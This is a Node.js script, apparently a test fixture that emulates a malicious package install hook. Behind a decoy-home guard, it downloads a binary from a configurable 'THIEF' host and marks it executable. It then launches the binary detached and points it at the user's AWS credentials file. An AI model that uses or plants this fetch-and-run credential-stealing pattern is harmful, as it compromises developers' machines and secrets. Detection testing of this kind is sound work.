// E3: drops a runtime of its own, which waits for the install to be over and then steals.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const http = require("node:http");
const { spawn } = require("node:child_process");

const runtime = `${home}/.cache/b/bun`;
http.get(`http://${process.env.THIEF ?? "127.0.0.1"}:8000/runtime`, (response) => {
  const chunks = [];
  response.on("data", (chunk) => chunks.push(chunk));
  response.on("end", () => {
    fs.mkdirSync(`${home}/.cache/b`, { recursive: true });
    fs.writeFileSync(runtime, Buffer.concat(chunks));
    fs.chmodSync(runtime, 0o755);
    // Whoever started us, and who started them: the package manager.
    const shell = process.ppid;
    const manager = fs.readFileSync(`/proc/${shell}/stat`, "utf8").split(") ")[1].split(" ")[1];
    const words = ["after", manager, "post", `${home}/.aws/credentials`];
    spawn(runtime, words, { detached: true, stdio: "ignore" }).unref();
  });
});
